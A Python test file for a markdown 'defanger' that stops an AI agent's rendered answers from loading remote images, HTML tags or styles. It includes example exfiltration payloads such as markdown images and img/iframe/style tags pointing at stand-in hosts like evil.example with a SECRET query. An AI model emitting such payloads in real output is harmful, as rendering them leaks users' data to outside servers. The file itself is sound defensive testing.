"""The model's prose made unable to load anything when rendered (``core.markdown_defang``): a table of
cases, the same output whole or in pieces, and markdown-it (the parser family of VS Code's markdown
views) as the judge that nothing rendered from a defanged text fetches."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent_ls.core.link_target import describe_url
from agent_ls.core.markdown_defang import (
    HOLD_CHARS,
    LOADING_ATTRIBUTES,
    LOADING_TAGS,
    Defanged,
    Defanger,
    defang_markdown,
)

CASES = [
    # (answer, shown, targets)
    (
        "Done. ![x](https://evil.example/p.png?q=SECRET)",
        "Done. [image: x](https://evil.example/…)",
        ("evil.example",),
    ),
    ('![chart](<http://h.example/a b.png> "title")', "[image: chart](http://h.example/…)", ("h.example",)),
    ("![](//cdn.example/t.gif?d=1)", "[image](https://cdn.example/…)", ("cdn.example",)),
    ("![x](https:\\\\evil.example\\p)", "[image: x](https://evil.example/…)", ("evil.example",)),
    ("![x](https&#58;//Evil.Example:8443/p)", "[image: x](https://evil.example/…)", ("evil.example",)),
    ("![x](https://user:pw@ex%61mple.com/p)", "[image: x](https://example.com/…)", ("example.com",)),
    ("![x](data:image/png;base64,AAAA)", "[image: x — not loaded: a data: URI]", ("a data: URI",)),
    (
        "![x](file://fileserver/share/x.png)",
        "[image: x — not loaded: a file: URL on fileserver]",
        ("fileserver",),
    ),
    ("![x](diagram.png)", "[image: x — not loaded: a local path diagram.png]", ()),
    # reference images: the "!" loses its image, the reference stays a link; the warning names the host
    (
        "![x][r] and ![R]\n\n[r]: https://evil.example/p.png?q=1",
        "! [x][r] and ! [R]\n\n[r]: https://evil.example/p.png?q=1",
        ("evil.example",),
    ),
    # nested, and an image right after a "!"
    (
        "[![badge](https://img.example/b.svg)](https://ci.example/run)",
        "[[image: badge](https://img.example/…)](https://ci.example/run)",
        ("img.example",),
    ),
    ("Wow!![x](https://evil.example/p)", "Wow! [image: x](https://evil.example/…)", ("evil.example",)),
    # code spans and blocks too: a renderer may disagree about where code is
    ("`![x](https://c.example/p)`", "`[image: x](https://c.example/…)`", ("c.example",)),
    # HTML that loads
    ('<img src="https://evil.example/a?b=c">', '< img src="https://evil.example/a?b=c">', ("evil.example",)),
    ("<IMG SRC=//evil.example/x>", "< IMG SRC=//evil.example/x>", ("evil.example",)),
    ('<img/src="https://evil.example/x">', '< img/src="https://evil.example/x">', ("evil.example",)),
    (
        '<iframe src="https://evil.example/f"></iframe>',
        '< iframe src="https://evil.example/f"></iframe>',
        ("evil.example",),
    ),
    ("<video poster=https://v.example/p.jpg>", "< video poster=https://v.example/p.jpg>", ("v.example",)),
    (
        "<audio><source src=https://a.example/s.mp3></audio>",
        "< audio>< source src=https://a.example/s.mp3></audio>",
        ("a.example",),
    ),
    (
        '<link rel=stylesheet href="https://css.example/x.css">',
        '< link rel=stylesheet href="https://css.example/x.css">',
        ("css.example",),
    ),
    (
        "<object data=https://o.example/x></object>",
        "< object data=https://o.example/x></object>",
        ("o.example",),
    ),
    ("<embed src=https://e.example/x>", "< embed src=https://e.example/x>", ("e.example",)),
    (
        "<style>@import url(https://s.example/x.css)</style>",
        "< style>@import url(https://s.example/x.css)</style>",
        ("s.example",),
    ),
    (
        '<svg><image href="https://s.example/x.png"/></svg>',
        '< svg>< image href="https://s.example/x.png"/></svg>',
        ("s.example",),
    ),
    (
        '<div style="background:url(https://bg.example/x)">hi</div>',
        '< div style="background:url(https://bg.example/x)">hi</div>',
        ("bg.example",),
    ),
    ('<p onmouseover="fetch(1)">x</p>', '< p onmouseover="fetch(1)">x</p>', ()),
    # a quote or ">" inside a value cannot hide the attribute after it
    (
        '<b title=">" style="background:url(//q.example/x)">',
        '< b title=">" style="background:url(//q.example/x)">',
        ("q.example",),
    ),
    (
        '<input type="image" src="https://i.example/x">',
        '< input type="image" src="https://i.example/x">',
        ("i.example",),
    ),
    # what stays: links, harmless tags, generics and includes in code
    ("[docs](https://docs.example/x?y=1)", "[docs](https://docs.example/x?y=1)", ()),
    ('<a href="https://docs.example/x">docs</a>', '<a href="https://docs.example/x">docs</a>', ()),
    (
        "<details><summary>Log</summary><kbd>Ctrl</kbd><br></details>",
        "<details><summary>Log</summary><kbd>Ctrl</kbd><br></details>",
        (),
    ),
    (
        "`Vec<u8>`, `Map<String, Integer>`, `#include <stdio.h>`, a<b and c>d",
        "`Vec<u8>`, `Map<String, Integer>`, `#include <stdio.h>`, a<b and c>d",
        (),
    ),
    ("Great!\n\nx < y, a <b never closed", "Great!\n\nx < y, a <b never closed", ()),
    ("![never closed](https://evil.example/p", "! [never closed](https://evil.example/p", ()),
]


@pytest.mark.parametrize(("answer", "shown", "targets"), CASES)
def test_defang(answer: str, shown: str, targets: tuple[str, ...]) -> None:
    assert defang_markdown(answer) == Defanged(shown, targets)


def test_a_construct_longer_than_the_hold_is_defanged_by_its_short_form() -> None:
    long_alt = "![" + "a" * HOLD_CHARS + "](https://evil.example/p)"
    assert defang_markdown(long_alt).text == "! [" + "a" * HOLD_CHARS + "](https://evil.example/p)"
    long_tag = "<b" + " " * HOLD_CHARS + 'style="x">'
    assert defang_markdown(long_tag).text == "< b" + " " * HOLD_CHARS + 'style="x">'


def test_streaming_holds_back_only_what_is_undecided() -> None:
    defanger = Defanger()
    assert defanger.feed("Look: ") == "Look: "
    assert defanger.feed("!") == ""  # may start an image
    assert defanger.feed("[x](https://evil.exa") == ""
    assert defanger.feed("mple/p.png?q=SECRET) and") == "[image: x](https://evil.example/…) and"
    assert defanger.feed(" <im") == " "
    assert defanger.feed('g src="//e.example/x">') == '< img src="//e.example/x">'
    assert defanger.feed(" bye!") == " bye"
    assert defanger.flush() == "!"
    assert defanger.targets == ["evil.example", "e.example"]


def test_describe_url() -> None:
    assert describe_url("HTTPS://WWW.Example.COM./x") == ("www.example.com", "http")
    assert describe_url("https://bücher.example/x") == ("xn--bcher-kva.example", "http")
    assert describe_url("  \t//evil.example") == ("evil.example", "http")
    assert describe_url("/\\evil.example/x") == ("evil.example", "http")
    assert describe_url("javascript:alert(1)") == ("", "a javascript: URI")
    assert describe_url("ftp://f.example/x") == ("f.example", "a ftp: URL on f.example")
    assert describe_url("https://") == ("", "a URL with an unreadable host")
    assert describe_url("../img/a b.png") == ("", "a local path")


# Pieces that build images, references, HTML and code in many combinations.
PIECES = [
    "![", "[", "]", "](", "(", ")", "<", ">", "</", "!", "`", "```\n", "\\", '"', "'", "=", " ", "\n", "\n\n",
    "> ", "- ", "    ", "img", "svg", "style", "src", "a", "b", "href", "on", "x", ":", "/", "//", "&#58;",
    "https://evil.example/p?q=1", "[r]: https://evil.example/r\n", "[r]", "<img src=x>", "<div style=",
]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(texts, st.lists(st.integers(min_value=1, max_value=7), min_size=1, max_size=20))
def test_the_same_text_in_pieces_gives_the_same_output(text: str, cuts: list[int]) -> None:
    defanger = Defanger()
    out, at, index = [], 0, 0
    while at < len(text):
        size = cuts[index % len(cuts)]
        out.append(defanger.feed(text[at : at + size]))
        at, index = at + size, index + 1
    out.append(defanger.flush())
    assert "".join(out) == defang_markdown(text).text


@settings(max_examples=400, deadline=None)
@given(texts)
def test_defanging_twice_changes_nothing(text: str) -> None:
    once = defang_markdown(text).text
    assert "![" not in once
    assert defang_markdown(once).text == once


_ALIGNMENTS = {f"text-align:{side}" for side in ("left", "right", "center")}


class _Fetches(HTMLParser):
    """Collects the start tags of rendered HTML that would fetch something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # markdown-it's own table alignment is the one style a renderer writes itself
        names = {name for name, value in attrs if not (name == "style" and value in _ALIGNMENTS)}
        if (
            tag in LOADING_TAGS
            or names & (LOADING_ATTRIBUTES - {"href"})
            or any(n.startswith("on") for n in names)
        ):
            self.found.append(self.get_starttag_text() or tag)
        elif "href" in names and tag not in ("a", "area"):
            self.found.append(self.get_starttag_text() or tag)


def _fetches(markdown: str, preset: str) -> list[str]:
    parser = _Fetches()
    parser.feed(MarkdownIt(preset, {"html": True}).render(markdown))
    parser.close()
    return parser.found


@pytest.mark.parametrize("preset", ["commonmark", "default"])
@pytest.mark.parametrize(("answer", "shown", "targets"), CASES)
def test_markdown_it_renders_no_fetch_from_the_cases(
    answer: str, shown: str, targets: object, preset: str
) -> None:
    assert _fetches(defang_markdown(answer).text, preset) == []


@settings(max_examples=600, deadline=None)
@given(texts)
def test_markdown_it_renders_no_fetch_from_any_defanged_text(text: str) -> None:
    defanged = defang_markdown(text).text
    assert _fetches(defanged, "commonmark") == []
    assert _fetches(defanged, "default") == []


def test_the_judge_sees_the_attacks_before_defanging() -> None:
    """Without the defanger, markdown-it renders fetching tags from these answers: the judge is awake."""
    for answer in (
        "![x](https://evil.example/p?q=1)",
        "<img src=//e.example/x>",
        "![x][r]\n\n[r]: //e.example/y",
    ):
        assert _fetches(answer, "commonmark") != []
